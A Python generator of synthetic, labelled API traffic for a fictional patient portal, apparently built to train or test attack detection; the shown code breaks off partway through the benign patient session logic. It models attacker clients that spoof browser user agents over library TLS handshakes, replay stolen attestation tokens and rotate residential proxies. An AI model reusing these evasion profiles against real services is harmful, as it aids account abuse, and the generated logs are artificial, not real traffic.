#!/usr/bin/env python3
"""A labelled world of API traffic of a patient portal and telehealth service. health.py SEED OUTDIR

Every parameter is drawn from the seed: callers, hours, naming of routes, form of ids, oddities, which attacks happen
and in which manner, and which optional fields the gateway logs. Writes events.ndjson and labels.ndjson to OUTDIR."""
import json
import math
import os
import random
import sys
MIN, HOUR, DAY = 60e3, 3600e3, 86400e3
CHROME_JA = ['t13d1516h2_8daaf6152771_02713d6af862', 't13d1517h2_8daaf6152771_b0da82dd1658']
JA = {'firefox': 't13d1715h2_5b57614c22b0_5c2c66f702b0', 'safari': 't13d2014h2_a09f3c656075_14788d8d241b',
      'okhttp': 't13d1411h2_9f1a2c3d0b7e_e7c285222651', 'cfnet': 't13d2014h2_a09f3c656075_e42f34c56612',
      'python': 't13d1812h1_85036bcba153_375ca2c5e164', 'go': 't13d1312h2_f57a46bbacb6_ab7e3b40a677',
      'curl': 't13d4907h2_0d8feac7bc37_7395dae3b2f3', 'java': 't13d2513h1_6a9de1cf8b34_9f1c0a2e77d1',
      'dotnet': 't12d2109h1_76e208dd3e22_2b729b4bf6f3', 'node': 't13d521100_b262b3658495_8e6e362c5eac'}
HOURS_PEOPLE = [2, 1, 1, 1, 1, 2, 5, 8, 10, 9, 9, 8, 8, 7, 7, 7, 8, 9, 10, 11, 12, 10, 7, 4]
HOURS_WORK = [0, 0, 0, 0, 0, 1, 3, 8, 10, 10, 10, 9, 6, 9, 10, 9, 7, 4, 1, 1, 0, 0, 0, 0]
FOREIGN = [('BR', 28573, -23.5, -46.6), ('IN', 55836, 19.0, 72.8), ('ID', 7713, -6.2, 106.8), ('VN', 45899, 21.0, 105.8),
           ('US', 7922, 39.9, -75.1), ('MX', 8151, 19.4, -99.1), ('TR', 47331, 41.0, 28.9), ('UA', 15895, 50.4, 30.5),
           ('PH', 9299, 14.6, 121.0), ('ES', 3352, 40.4, -3.7), ('TH', 17552, 13.7, 100.5), ('IT', 3269, 41.9, 12.5)]
HOMES = [('DE', 2, [3320, 3209, 8881, 6805, 31334], 51.0, 9.5), ('US', -5, [7922, 701, 20115, 21928, 7018], 40.0, -80.0),
         ('GB', 1, [2856, 5607, 5089, 13285, 12576], 52.0, -1.2), ('FR', 2, [3215, 12322, 15557, 5410, 51207], 47.0, 2.4),
         ('PL', 2, [5617, 8374, 12741, 43447, 6830], 52.0, 19.4), ('CA', -4, [812, 577, 6327, 5769, 852], 44.0, -79.0),
         ('AU', 10, [1221, 4804, 7545, 9443, 133612], -33.8, 151.0), ('NL', 2, [1136, 33915, 50266, 1103, 60781], 52.1, 5.1)]
CLOUDS = [('US', 16509, 39.0, -77.5), ('US', 15169, 41.2, -95.8), ('IE', 8075, 53.3, -6.2), ('DE', 24940, 50.5, 12.4),
          ('FR', 16276, 50.7, 2.9), ('US', 14061, 40.7, -74.0), ('NL', 60781, 52.3, 4.9), ('RO', 9009, 44.4, 26.1)]


class Ctx:
    """Whoever calls: what the gateway sees of him."""
    def __init__(self, caller, kind, **k):
        self.caller, self.kind = caller, kind; self.attack, self.instance, self.platform = False, '', None; self.ua = self.ja = self.api = self.ver = self.dev = self.user = self.sess = self.ip = None
        self.att, self.key, self.cache, self.slow = None, None, 0.0, 1.0; self.__dict__.update(k)
    def but(self, **k): c = Ctx(self.caller, self.kind); c.__dict__.update(self.__dict__); c.__dict__.update(k); return c


class Att:
    """The attestation state of one installation: mode genuine, failed, missing, expired (wrong clock), shared (a stolen token)."""
    def __init__(self, w, mode='genuine', flaky=1.0, code=None): self.w, self.mode, self.flaky, self.code = w, mode, flaky, code; self.tok, self.until, self.last = None, -1e18, -1e18
    def get(self, t):
        w, r = self.w, self.w.r; cold, self.last = t - self.last > 20 * MIN, t
        if self.mode == 'missing': return 'missing', self.code or 'no_token', None
        if t > self.until:
            out = w.att_outage and w.att_outage[0] < t < w.att_outage[1]
            if out and self.mode != 'failed' and r.random() < w.att_outage[2]: return ('expired', 'expired', self.tok) if self.tok and r.random() < 0.5 else ('missing', 'NO_NETWORK', None)
            if self.tok and self.mode == 'genuine' and r.random() < 0.004 * self.flaky: return 'expired', 'expired', self.tok
            if cold and self.mode == 'genuine' and r.random() < w.cold_missing * self.flaky: return 'missing', 'NO_NETWORK' if r.random() < 0.5 else 'no_token', None
            self.tok, self.until = w.hex(16), t + w.tok_life * 1e3 * r.uniform(0.85, 1)
        if self.mode == 'failed': return 'failed', self.code or 'invalid_signature', self.tok
        if self.mode == 'expired': return 'expired', 'expired', self.tok
        return 'genuine', 'valid', self.tok


class Stolen:
    """One genuine token passed round; the thief gets a fresh one every so often, or keeps using the dead one."""
    def __init__(self, w, renew, oneshot=0.0): self.w, self.renew, self.oneshot, self.tok, self.born = w, renew, oneshot, None, -1e18
    def get(self, t):
        if t - self.born > self.renew: self.tok, self.born = self.w.hex(16), t
        if t - self.born > self.w.tok_life * 1e3: return 'expired', 'expired', self.tok
        if self.oneshot and self.w.r.random() < self.oneshot: return 'failed', 'replayed', self.tok
        return 'genuine', 'valid', self.tok


class World:
    def __init__(self, seed):
        r = self.r = random.Random('health-%s' % seed); self.ev, self.victims, self.counter = [], {}, {}; self.days = r.choice([2, 3, 3, 4])
        self.t0 = 1781481600000 - r.choice([0, 0, 1, 2, 3]) * DAY  # 2026-06-15 00:00 UTC, a Monday, or a little before
        self.t1 = self.t0 + self.days * DAY; self.total = r.randint(64000, 86000); self.evil = r.uniform(0.028, 0.07); self.country, self.tz, self.asns, self.lat, self.lon = r.choice(HOMES)
        self.brand = r.choice(['vitalis', 'carepoint', 'medora', 'salvia', 'northclinic', 'healwell', 'kliniq', 'asclepia']); self.setup_log(); self.setup_nets(); self.setup_routes()
        self.setup_apps(); self.setup_patients()

    # ---- small helpers
    def hex(self, n): return '%0*x' % (n, self.r.getrandbits(4 * n))
    def uuid(self): h = self.hex(32); return '-'.join([h[:8], h[8:12], '4' + h[13:16], 'a' + h[17:20], h[20:]])
    def ln(self, med, sig): return med * math.exp(self.r.gauss(0, sig))
    def p(self, x): return self.r.random() < x
    def no(self, what): self.counter[what] = self.counter.get(what, 0) + 1; return self.counter[what]
    def hour(self, t): return (t / HOUR + self.tz) % 24
    def weekend(self, t):
        return int((t + self.tz * HOUR) // DAY + 4) % 7 in (6, 0)  # day 0 of the epoch was a Thursday
    def moment(self, day, hours): h = self.r.choices(range(24), hours)[0]; return self.t0 + day * DAY + ((h - self.tz) % 24 + self.r.random()) * HOUR

    # ---- the seed's drawing of the company
    def setup_log(self):
        r = self.r; f = self.f = {}
        for name, share in [('http.route', .45), ('url.query', .6), ('server.address', .7), ('http.request.id', .4),
                            ('http.request.size', .6), ('http.response.size', .9), ('http.server.request.duration', .85),
                            ('session.id', .8), ('device.id', .92), ('login.subject', .85), ('app.version', .8),
                            ('geo.country', .75), ('geo.location', .3), ('network.asn', .6), ('tls.client.ja4', .55),
                            ('attestation.code', .7), ('attestation.issuer', .6), ('attestation.token', .75),
                            ('anon.none', .5), ('web.device', .4)]: f[name] = r.random() < share
        self.tok_life = r.choice([300, 300, 300, 600, 900]); self.cold_missing = r.uniform(.004, .04); self.bad_rate = r.uniform(.0008, .003); self.p304 = r.choice([0, 0, .05, .2])
        self.limit = r.choice([None, 120, 300])  # the gateway's own limit for sign-in, per address and 5 min
        self.limit_seen = {}; self.lock = r.choice([5, 6, 10]); self.sizes = {}; mid = self.t0 + r.uniform(.4, .9) * (self.t1 - self.t0)
        self.incident = (mid, mid + r.uniform(6, 35) * MIN, r.uniform(.1, .5)) if self.p(.7) else None; mid = self.t0 + r.uniform(.3, .95) * (self.t1 - self.t0)
        self.att_outage = (mid, mid + r.uniform(8, 40) * MIN, r.uniform(.4, .95)) if self.p(.6) else None
    def net(self, country, asn, lat, lon, bits=16):
        while True:
            a = self.r.choice([5, 23, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 84, 86, 87, 89, 91, 93, 94, 95, 109, 151, 176, 178, 185, 188, 193, 212, 217]); b = self.r.randrange(256)
            if (a, b) not in self.used: self.used.add((a, b)); c = self.r.randrange(256) if bits == 24 else None; return dict(a=a, b=b, c=c, country=country, asn=asn, lat=lat, lon=lon)
    def addr(self, n):
        r = self.r; a = '%d.%d.%d.%d' % (n['a'], n['b'], r.randrange(256) if n['c'] is None else n['c'], r.randrange(1, 255))
        self.info[a] = (n['country'], n['asn'], round(n['lat'] + r.gauss(0, .4), 2), round(n['lon'] + r.gauss(0, .4), 2)); return a
    def addr6(self, n):
        a = '2a%02x:%x:%s:%s:%s:%s:%s:%s' % (n['a'], 0x100 + n['b'], *(('%x' % self.r.randrange(1, 65536)) for _ in range(6))); self.info[a] = (n['country'], n['asn'], n['lat'], n['lon']); return a
    def setup_nets(self):
        r = self.r; self.used, self.info, self.homes_seen = set(), {}, []; here = lambda asn: (self.country, asn, self.lat + r.gauss(0, 1), self.lon + r.gauss(0, 1.5))
        self.isps = [self.net(*here(a)) for a in self.asns[:r.randint(3, 5)] for _ in range(r.randint(1, 4))]; self.carriers = []
        for a in self.asns[-r.randint(2, 3):]: n = self.net(*here(a)); self.carriers.append((n, [self.addr(n) for _ in range(r.choice([12, 40, 120]))], self.p(.35)))
        self.offices = [self.addr(r.choice(self.isps)) for _ in range(r.randint(8, 30))]; self.sites = []
        for _ in range(r.randint(1, 4)): n = self.net(*here(r.choice(self.asns)), bits=24); self.sites.append([self.addr(n) for _ in range(r.choice([1, 1, 2, 4]))])
        self.clouds = [self.net(*r.choice(CLOUDS)) for _ in range(14)]; self.abroad = [self.net(*x) for x in FOREIGN for _ in range(3)]
        self.vpns = [self.addr(r.choice(self.clouds)) for _ in range(r.randint(8, 25))]; self.relays = [self.addr(n) for n in [self.net('US', 13335, 37.7, -122.4, bits=24)] for _ in range(30)]
    def home(self): n = self.r.choice(self.isps); a = self.addr6(n) if self.p(.12) else self.addr(n); self.homes_seen.append(a); return a
    def resi(self, local=.5):
        """An exit of a residential proxy network: often the country's own lines, at times the very line of an honest home."""
        if self.p(.04): return self.r.choice(self.homes_seen)
        if self.p(local):
            if self.p(.25): return self.r.choice(self.r.choice(self.carriers)[1])
            return self.addr(self.r.choice(self.isps))
        return self.addr(self.r.choice(self.abroad))
    def setup_routes(self):
        r = self.r; P = self.prefix = r.choice(['/api/v1', '/v2', '/api', '/mobile/v3', '/portal/api/v2']); S = self.sp = r.choice(['/staff/v1', '/clinic', '/backoffice/api', '/internal/ehr'])
        F = self.fp = r.choice(['/fhir/R4', '/fhir', '/fhir/r4']); res = r.choice(['results', 'lab-results', 'diagnostics']); rx = r.choice(['prescriptions', 'medications', 'rx'])
        slots = r.choice(['slots', 'scheduling/slots', 'availability']); pat = r.choice(['patients', 'members', 'persons']); prov = r.choice(['providers', 'doctors', 'practitioners'])
        tok = r.choice(['/auth/token', '/auth/refresh', '/oauth2/token']); self.routes = {}
        table = '''config GET P/config 200 1800 .01;login POST P/auth/login 200 900 .18;refresh POST P%(tok)s 200 1100 .03;otp_send POST P/auth/otp 202 60 .2
otp POST P/auth/otp/verify 200 900 .06;logout POST P/auth/logout 204 0 .02;reset POST P/auth/password/reset 202 60 .15;setpw PUT P/me/password 204 0 .2
register POST P/registrations 201 300 .25;regverify POST P/registrations/:r/verify 200 900 .08;me GET P/me 200 1300 .03;me_put PATCH P/me 200 1300 .07
proxies GET P/me/proxies 200 500 .03;push PUT P/me/devices/:d 204 0 .03;notif GET P/notifications 200 2200 .04;badge GET P/notifications/badge 200 40 .01
summary GET P/%(pat)s/:p/summary 200 4200 .09;results GET P/%(pat)s/:p/%(res)s 200 6000 .1;result GET P/%(res)s/:r 200 2600 .06;docs GET P/%(pat)s/:p/documents 200 3500 .07
doc GET P/documents/:d/content 200 240000 .3;rxs GET P/%(pat)s/:p/%(rx)s 200 3100 .07;rx GET P/%(rx)s/:x 200 1500 .04;refill POST P/%(rx)s/:x/refills 201 400 .2
pharm GET P/pharmacies 200 7000 .09;pharm_set PUT P/%(pat)s/:p/pharmacy 200 200 .06;appts GET P/%(pat)s/:p/appointments 200 2800 .06;appt GET P/appointments/:a 200 1100 .04
slots GET P/%(slots)s 200 8000 .15;provs GET P/%(prov)s 200 12000 .16;prov GET P/%(prov)s/:v 200 3400 .04;book POST P/appointments 201 900 .22;cancel DELETE P/appointments/:a 204 0 .1
threads GET P/messages 200 3900 .06;thread GET P/messages/:m 200 5200 .06;reply POST P/messages/:m 201 300 .1;compose POST P/messages 201 300 .12
join POST P/visits/:v/join 200 1600 .12;signal GET P/visits/:v/signal 200 220 .02;ice POST P/visits/:v/candidates 204 0 .02;leave POST P/visits/:v/leave 204 0 .03
obs POST P/%(pat)s/:p/observations 202 40 .04;vitals GET P/%(pat)s/:p/vitals 200 9000 .08;bills GET P/%(pat)s/:p/invoices 200 2600 .06;pay POST P/invoices/:i/payments 201 500 .6
elig GET P/insurance/members/:n 200 260 .3;promo POST P/promotions/redeem 200 200 .07;specs GET P/specialties 200 5200 .01;article GET P/content/articles/:s 200 14000 .02
telem POST P/telemetry 204 0 .01;s_login POST S/auth/login 200 1200 .2;s_refresh POST S/auth/refresh 200 1100 .03;s_find GET S/patients 200 5200 .2;s_chart GET S/patients/:p 200 16000 .14
s_res GET S/patients/:p/results 200 9800 .12;s_rx GET S/patients/:p/medications 200 5200 .08;s_note POST S/patients/:p/notes 201 300 .12;s_sched GET S/schedule 200 18000 .12
s_inbox GET S/inbox 200 7000 .08;s_reply POST S/inbox/:m 201 300 .1;s_refq GET S/refill-requests 200 6200 .08;s_ok POST S/refill-requests/:x/approve 200 300 .12
s_book POST S/appointments 201 900 .2;s_move PATCH S/appointments/:a 200 900 .12;s_bill GET S/patients/:p/claims 200 6000 .1;s_rep GET S/reports/:n 200 420000 1.6
s_user GET S/users/:u 200 1800 .05;s_reset POST S/users/:u/reset-password 202 40 .1;s_users GET S/users 200 22000 .1;s_audit GET S/audit 200 40000 .4;s_doc GET S/documents/:d 200 300000 .3
f_token POST /oauth2/token 200 1400 .04;f_meta GET F/metadata 200 90000 .05;f_pat GET F/Patient/:p 200 2600 .06;f_patq GET F/Patient 200 5200 .14;f_obs POST F/Observation 201 500 .06
f_obsq GET F/Observation 200 15000 .16;f_dr POST F/DiagnosticReport 201 900 .14;f_drq GET F/DiagnosticReport 200 9000 .15;f_order GET F/ServiceRequest/:o 200 2100 .05
f_med GET F/MedicationRequest 200 4400 .1;f_med1 GET F/MedicationRequest/:x 200 1800 .05;f_disp POST F/MedicationDispense 201 700 .1;f_cov POST F/CoverageEligibilityRequest 200 1500 .3
f_claim POST F/Claim 201 1200 .25;f_slot GET F/Slot 200 9000 .12;f_appt POST F/Appointment 201 900 .2;f_every GET F/Patient/:p/$everything 200 160000 1.4;f_export GET F/Patient/$export 202 0 .3
f_job GET F/bulk/:j 202 0 .02;f_file GET F/bulk/:j/:n.ndjson 200 2600000 2.5;f_doc GET F/DocumentReference 200 8000 .12;f_bin GET F/Binary/:b 200 260000 .3
health GET /health 200 20 .003;robots GET /robots.txt 200 120 .003;pubprov GET /find-a-doctor/:s 200 32000 .1;pubmap GET /sitemap.xml 200 60000 .05'''
        for row in (table % dict(tok=tok, pat=pat, res=res, rx=rx, slots=slots, prov=prov)).replace('\n', ';').split(';'):
            name, m, path, ok, size, dur = row.split(' ')
            for mark, real in (('P/', P + '/'), ('S/', S + '/'), ('F/', F + '/')):
                if path.startswith(mark): path = real + path[2:]
            self.routes[name] = (m, path, int(ok), int(size), float(dur))
        self.hosts = {'f': 'fhir.%s.example' % self.brand, 's': 'clinic.%s.example' % self.brand, 'p': 'api.%s.example' % self.brand}
        if self.p(.3): self.hosts = dict.fromkeys('fsp', 'api.%s.example' % self.brand)
    def setup_apps(self):
        r = self.r; maj = r.randint(3, 9); self.vers = ['%d.%d.%d' % (maj, i, r.randint(0, 3)) for i in range(r.randint(4, 9), 22, 1)][:r.randint(5, 8)]; self.newver = '%d.%d.0' % (maj, 30)
        self.release = self.t0 + r.uniform(.3, .8) * (self.t1 - self.t0) if self.p(.75) else None
        self.presdk = r.uniform(.002, .012)  # share of phones with a version older than the attestation SDK
        self.rooted = r.uniform(.002, .02)
        self.appid = {'android': 'pt-android-%d' % r.randint(1, 4), 'ios': 'pt-ios-%d' % r.randint(1, 4), 'web': 'pt-web-%d' % r.randint(1, 3),
                      'tablet': 'clin-tab-%d' % r.randint(1, 3), 'staff': 'staff-web-%d' % r.randint(1, 2)}
        self.token_min = r.choice([10, 15, 30, 60]); self.badge = r.choice([30, 60, 120, 240])
    def browser(self):
        r = self.r; v = r.choice([136, 137, 137, 138, 138, 138, 126, 109]); x = r.random()
        if x < .5:
            os_ = r.choice(['Windows NT 10.0; Win64; x64', 'Windows NT 10.0; Win64; x64', 'Macintosh; Intel Mac OS X 10_15_7', 'X11; Linux x86_64', 'Linux; Android 10; K'])
            edge = ' Edg/%d.0.0.0' % v if self.p(.25) else ''; return 'Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36%s' % (os_, v, edge), CHROME_JA[v % 2]
        if x < .66: return 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0' % (v + 2, v + 2), JA['firefox']
        if x < .85: return 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.%d Mobile/15E148 Safari/604.1' % ((v % 6,) * 2), JA['safari']
        return 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.%d Safari/605.1.15' % (v % 5), JA['safari']
    def phone(self, platform, ver):
        r = self.r
        if platform == 'android':
            m = r.choice(['SM-S911B', 'SM-A546B', 'Pixel 8', 'Pixel 7a', 'M2101K6G', 'CPH2481', 'SM-G991B', 'moto g54', 'SM-A145R', '2201117TY'])
            return '%s/%s (Android %d; %s) okhttp/4.12.0' % (self.brand.title(), ver, r.choice([11, 12, 13, 14, 14, 15]), m), JA['okhttp']
        return '%s/%s (iPhone%d,%d; iOS %s) CFNetwork/1568 Darwin/24' % (self.brand.title(), ver, r.randint(12, 17), r.randint(1, 4), r.choice(['16.7', '17.6', '18.3', '18.4', '18.5'])), JA['cfnet']
    def tool(self, name):
        r = self.r
        if name == 'python': return r.choice(['python-requests/2.31.0', 'python-requests/2.32.3', 'python-httpx/0.27.0', 'Python/3.11 aiohttp/3.9.5']), JA['python']
        if name == 'openbullet':                                        # browsers' names, a library's handshake
            return self.browser()[0], JA['dotnet']
        if name == 'headless': ua = self.browser()[0]; return ua, CHROME_JA[0] if 'Chrome' in ua or self.p(.5) else JA['firefox' if 'Firefox' in ua else 'safari']
        if name in ('clone', 'phone'):                                             # the app's own headers, its handshake imitated or not
            return self.phone('android', r.choice(self.vers))[0], r.choice([JA['okhttp'], JA['okhttp'], JA['go'], JA['python']])
        return {'go': 'Go-http-client/2.0', 'curl': 'curl/8.5.0', 'java': 'Apache-HttpClient/4.5.14 (Java/17.0.10)', 'node': 'axios/1.7.2',
                'dotnet': 'RestSharp/110.2.0.0'}[name], JA[name]

    # ---- identifiers
    def setup_patients(self):
        r = self.r; self.npat = r.randint(9000, 60000)
        self.idform = {k: r.choice(f) for k, f in {'p': ['num', 'num', 'uuid', 'mrn'], 'r': ['num', 'num', 'uuid'], 'x': ['num', 'mrn', 'uuid'],
                                                   'd': ['num', 'uuid', 'hex'], 'a': ['num', 'uuid'], 'm': ['num', 'hex'], 'u': ['num', 'hex']}.items()}
        self.idbase = {k: r.randint(10 ** 4, 9 * 10 ** 6) for k in self.idform}; self.idsalt = r.randrange(1 << 30); self.vuln = self.p(.6)
    def oid(self, k, i):
        f = self.idform.get(k, 'num')
        if f == 'num': return str(self.idbase.get(k, 50000) + i)
        if f == 'mrn': return 'MR%08d' % (self.idbase[k] + i * 7)
        h = '%032x' % random.Random(self.idsalt * 7919 + i * 31 + ord(k)).getrandbits(128); return h[:24] if f == 'hex' else '-'.join([h[:8], h[8:12], '4' + h[13:16], 'b' + h[17:20], h[20:]])
    def item(self, k, pat, j):
        """The id of the j-th object of a patient; ids grow as objects are made, so one patient's are scattered."""
        return self.oid(k, (pat * 7 + j * (self.npat * 3 + 17)) % (self.npat * 9))
    def rand_item(self, k): return self.oid(k, self.r.randrange(self.npat * 9))

    # ---- one request
    def call(self, c, t, name, *ids, st=None, q=None, size=None, raw=None):
        r, f = self.r, self.f
        if t >= self.t1 or t < self.t0: return 0
        m, path, ok, sz, dur = raw or self.routes[name]; route = path
        if ids:
            parts, it = [], iter(ids)
            for s in path.split('/'):
                if s.startswith(':'): parts.append(str(next(it)) + ('.ndjson' if s.endswith('.ndjson') else ''))
                else: parts.append(s)
            path = '/'.join(parts)
        slow = c.slow
        if st is None:
            st = ok
            if self.incident and self.incident[0] < t < self.incident[1] and r.random() < self.incident[2]: st, slow = r.choice([500, 502, 503, 503, 504]), 12
            elif r.random() < self.bad_rate: st = r.choice([500, 502, 503, 504, 499])
            elif m == 'GET' and c.cache and r.random() < c.cache: st = 304
        e = {'time': int(t), 'event_id': self.hex(20), 'http.request.method': m, 'url.path': path, 'http.response.status_code': st}; ip = c.ip(t) if callable(c.ip) else c.ip; e['client.address'] = ip
        if q and f['url.query']: e['url.query'] = q
        if f['http.route'] and not raw: e['http.route'] = '/'.join('{id}' if s.startswith(':') else s for s in route.split('/'))
        if f['server.address']: e['server.address'] = self.hosts['f' if (name or '').startswith('f_') else 's' if (name or '').startswith('s_') else 'p']
        if c.ua: e['user_agent.original'] = c.ua
        if f['http.request.id']: e['http.request.id'] = self.hex(16)
        if f['http.request.size']: e['http.request.size'] = int(self.ln(420, .4)) if m in ('POST', 'PUT', 'PATCH') else 0
        if f['http.response.size']: e['http.response.size'] = 0 if st in (204, 304, 202) and not size else int(size or (self.ln(sz, .45) if st < 300 else self.ln(160, .3)))
        if f['http.server.request.duration']: e['http.server.request.duration'] = round(self.ln(dur if st < 400 or st >= 500 else dur * .4 + .004, .5) * slow, 4)
        for k, v in (('user.id', c.user), ('session.id', c.sess), ('device.id', c.dev)):
            if v and f.get(k, True): e[k] = v
        if c.api: e['api.client'] = c.api
        if f['app.version'] and c.ver: e['app.version'] = c.ver
        g = self.info.get(ip)
        if g:
            if f['geo.country']: e['geo.country'] = g[0]
            if f['geo.location']: e['geo.location.lat'], e['geo.location.lon'] = g[2], g[3]
            if f['network.asn']: e['network.asn'] = g[1]
        if f['tls.client.ja4'] and c.ja: e['tls.client.ja4'] = c.ja
        if c.att:
            status, code, tok = c.att.get(t); e['attestation.status'] = status
            if f['attestation.code']: e['attestation.code'] = code
            if f['attestation.issuer'] and status in ('genuine', 'expired'): e['attestation.issuer'] = 'app'
            if f['attestation.token'] and tok: e['attestation.token'] = tok
        elif c.api or f['anon.none']: e['attestation.status'] = 'none'
        lab = {'event_id': e['event_id'], 'label': 'attack' if c.attack else 'benign', 'kind': c.kind, 'instance': c.instance, 'caller': c.caller}
        if c.platform: lab['platform'] = c.platform
        self.ev.append((e['time'], len(self.ev), e, lab, c.key)); return st
    def login(self, c, t, subject, st=None, name='login'):
        """A sign-in attempt: nobody is signed in yet, the account is only claimed."""
        ip = c.ip(t) if callable(c.ip) else c.ip
        if self.limit:
            k = (ip, int(t // (5 * MIN))); self.limit_seen[k] = self.limit_seen.get(k, 0) + 1
            if self.limit_seen[k] > self.limit and (st or 200) != 200: st = 429
        st = self.call(c.but(user=None, sess=None, ip=ip), t, name, st=st)
        if st and self.f['login.subject']: self.ev[-1][2]['login.subject'] = subject
        return st

    # ================================================================ benign life
    def people(self):
        r = self.r; self.pats = []; n = r.randint(900, 2600); ios, web = r.uniform(.3, .6), r.uniform(.15, .4)
        personas = ['occasional', 'chronic', 'parent', 'worried', 'booker', 'elderly', 'wearable']; weights = [r.uniform(.5, 1.5) * x for x in (8, 4, 4, .7, 2, 3, 2)]
        for i in range(n):
            u = Ctx('patient-%05d' % i, 'patient'); u.i, u.persona = i, r.choices(personas, weights)[0]; u.platform = 'web' if r.random() < web else 'ios' if r.random() < ios else 'android'
            u.user = self.oid('u', i * 3 + r.randrange(3))
            u.email = '%s%d@%s' % (r.choice(['anna', 'm.weber', 'jo', 'k', 'lena', 'tom', 'pat', 'sue', 'ali', 'eva', 'ivan']), i, r.choice(['gmail.com', 'gmx.net', 'outlook.com', 'yahoo.com', 'icloud.com']))
            u.pats = [r.randrange(self.npat)] + [r.randrange(self.npat) for _ in range({'parent': r.randint(1, 4)}.get(u.persona, int(r.random() < .08)))]
            u.home, u.carrier, u.office = self.home(), r.choice(self.carriers), r.choice(self.offices) if self.p(.4) else None
            u.weight = self.ln(1, .7) * {'chronic': 2, 'worried': 3, 'wearable': 2, 'parent': 1.4}.get(u.persona, 1); u.vpn = r.choice([self.vpns, self.relays]) if self.p(.04) else None
            u.trip = (self.t0 + r.random() * (self.t1 - self.t0), r.choice(self.abroad)) if self.p(.02) else None
            u.born = self.t0 + r.random() * (self.t1 - self.t0) if self.p(.06) else None  # signs up within the log
            u.newphone = self.t0 + r.random() * (self.t1 - self.t0) if self.p(.02) else None; u.dyn = self.p(.15); u.last, u.lastip, u.bad = -1e18, None, 0; self.equip(u); self.pats.append(u)
        self.badge_share = r.uniform(.1, .4)
    def equip(self, u):
        r = self.r
        if u.platform == 'web': (u.ua, u.ja), u.api, u.ver, u.att = self.browser(), self.appid['web'], None, None; u.dev = 'w-' + self.hex(20) if self.f['web.device'] else None; return
        u.dev, u.api, u.cache = self.uuid(), self.appid[u.platform], self.p304; u.ver = r.choices(self.vers, [2 ** i for i in range(len(self.vers))])[0]; mode, code = 'genuine', None
        if r.random() < self.rooted * (1.5 if u.platform == 'android' else .3): mode = 'failed'
        elif u.platform == 'android' and r.random() < .004: mode, code = 'missing', 'NO_APPROVAL'
        elif r.random() < self.presdk: mode, u.ver = 'missing', '%d.0.4' % (int(self.vers[0].split('.')[0]) - 1)
        elif r.random() < .002: mode = 'expired'
        u.att = Att(self, mode, flaky=self.ln(1, .8), code=code); u.ua, u.ja = self.phone(u.platform, u.ver)
    def where(self, u, t):
        r, h = self.r, self.hour(t)
        if u.vpn: return r.choice(u.vpn)
        if u.trip and t > u.trip[0]: return r.choice([self.addr(u.trip[1]), u.lastip or self.addr(u.trip[1])])
        if u.dyn and self.p(.3): u.home = self.home()
        if u.office and 8 < h < 18 and not self.weekend(t) and self.p(.6): return u.office
        if u.platform != 'web' and self.p(.45 if 7 < h < 19 else .18): return self.addr6(u.carrier[0]) if u.carrier[2] and self.p(.6) else r.choice(u.carrier[1])
        return u.home
    def patient_life(self, budget):
        r = self.r; base = len(self.ev); plan = []; w = [u.weight for u in self.pats]
        for u in r.choices(self.pats, w, k=int(budget / 21)):
            d = r.randrange(self.days); t = self.moment(d, HOURS_PEOPLE)
            if self.weekend(t) and self.p(.3): continue
            plan.append((t, u))
        for u in self.pats:
            if u.born: plan.append((u.born, u))
        if self.p(.7):                                                  # vaccination slots or a flu campaign are opened: a rush of honest people
            self.rush = self.moment(r.randrange(self.days), [0] * 7 + [3, 5, 3, 2] + [0] * 13)
            for u in r.sample(self.pats, int(len(self.pats) * r.uniform(.02, .08))): plan.append((self.rush + r.expovariate(1 / (8 * MIN)), u.but(hunt=True, real=u)))
        if self.p(.6):                                                  # a push message to everyone: apps open at once
            push = self.moment(r.randrange(self.days), HOURS_WORK)
            for u in r.sample(self.pats, int(len(self.pats) * r.uniform(.05, .15))): plan.append((push + r.expovariate(1 / (12 * MIN)), u))
        plan.sort(key=lambda x: x[0])
        for t, u in plan:
            if getattr(u, 'hunt', False): self.session(u.real, t, hunt=True)
            elif not u.born or t >= u.born: self.session(u, t)
        for u in self.pats:                                             # background refresh and wearable sync, at all hours
            if u.platform == 'web' or r.random() > self.badge_share * (3 if u.persona == 'wearable' else 1) or len(self.ev) - base > budget * 1.3: continue
            c = u.but(kind='app-background', sess='s' + self.hex(14), key=u.user); t = max(self.t0, u.born or 0) + r.random() * self.badge * MIN; a, b = u.home, r.choice(u.carrier[1])
            while t < self.t1:
                c.ip = a if not 8 < self.hour(t) < 18 or self.p(.4) else b; self.call(c, t, 'badge')
                if u.persona == 'wearable' and self.p(.6):
                    for k in range(r.choice([1, 1, 1, 2, 5])): self.call(c, t + 300 + k * 250, 'obs', self.oid('p', u.pats[0]))
                t += self.badge * MIN * r.choice([1, 1, 1, 2, 3, 6]) * r.uniform(.95, 1.3)
    def session(self, u, t, hunt=False):
        r = self.r
        if t - u.last < 2 * MIN: t = u.last + r.uniform(3, 20) * MIN
        if self.release and t > self.release and u.platform != 'web' and u.ver != self.newver and self.p(.35): u.ver = self.newver; u.ua = u.ua.replace(u.ua[len(self.brand) + 1:].split(' ')[0], self.newver)
        fresh = False
        if u.newphone and t > u.newphone: u.newphone, fresh = None, True; self.equip(u)
        ip = u.lastip = u.lastip if t - u.last < 40 * MIN and u.lastip else self.where(u, t); kind = ('patient-web' if u.platform == 'web' else 'patient-app') + ('-family' if len(u.pats) > 2 else '')
        c = u.but(kind=kind, ip=ip, sess='s' + self.hex(14), key=u.user, slow=r.choice([1, 1, 1, 1.5])); anon = c.but(user=None, sess=None); call, nap = self.call, lambda a, s=.8: self.ln(a, s) * 1e3
        if u.born and t <= u.born + 1:                                  # a new customer, who does a lot at once
            for n in ('config', 'specs', 'provs'): call(anon, t, n); t += nap(1.5)
            t += nap(40)
            if self.p(.5):
                for _ in range(r.choice([1, 1, 2, 3])): call(anon, t, 'elig', self.member(), st=r.choice([200, 200, 404])); t += nap(25)
            if self.p(.15): call(anon, t, 'register', st=r.choice([409, 422, 400])); t += nap(20)
            call(anon, t, 'register'); t += nap(35); call(anon, t, 'regverify', self.hex(12), st=400 if self.p(.1) else None); t += nap(5); u.weight *= 2
